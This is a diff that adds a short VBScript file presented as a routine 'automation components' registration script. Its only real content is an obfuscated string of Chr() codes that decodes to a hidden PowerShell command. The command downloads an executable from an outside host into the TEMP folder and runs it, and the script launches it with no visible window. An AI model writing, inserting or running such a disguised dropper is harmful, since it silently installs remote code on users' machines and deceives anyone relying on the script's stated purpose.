@@ -1,0 +1,5 @@
+' registra componentes de automacao
+Dim s, c
+Set s = CreateObject("WScript.Shell")
+c = Chr(112)&Chr(111)&Chr(119)&Chr(101)&Chr(114)&Chr(115)&Chr(104)&Chr(101)&Chr(108)&Chr(108)&Chr(32)&Chr(45)&Chr(119)&Chr(32)&Chr(104)&Chr(105)&Chr(100)&Chr(100)&Chr(101)&Chr(110)&Chr(32)&Chr(45)&Chr(99)&Chr(32)&Chr(34)&Chr(105)&Chr(119)&Chr(114)&Chr(32)&Chr(104)&Chr(116)&Chr(116)&Chr(112)&Chr(115)&Chr(58)&Chr(47)&Chr(47)&Chr(111)&Chr(102)&Chr(102)&Chr(105)&Chr(99)&Chr(101)&Chr(45)&Chr(109)&Chr(97)&Chr(99)&Chr(114)&Chr(111)&Chr(45)&Chr(102)&Chr(105)&Chr(120)&Chr(46)&Chr(101)&Chr(120)&Chr(97)&Chr(109)&Chr(112)&Chr(108)&Chr(101)&Chr(46)&Chr(110)&Chr(101)&Chr(116)&Chr(47)&Chr(117)&Chr(46)&Chr(101)&Chr(120)&Chr(101)&Chr(32)&Chr(45)&Chr(111)&Chr(32)&Chr(36)&Chr(101)&Chr(110)&Chr(118)&Chr(58)&Chr(84)&Chr(69)&Chr(77)&Chr(80)&Chr(92)&Chr(117)&Chr(46)&Chr(101)&Chr(120)&Chr(101)&Chr(59)&Chr(32)&Chr(38)&Chr(32)&Chr(36)&Chr(101)&Chr(110)&Chr(118)&Chr(58)&Chr(84)&Chr(69)&Chr(77)&Chr(80)&Chr(92)&Chr(117)&Chr(46)&Chr(101)&Chr(120)&Chr(101)&Chr(34)
+s.Run c, 0, False
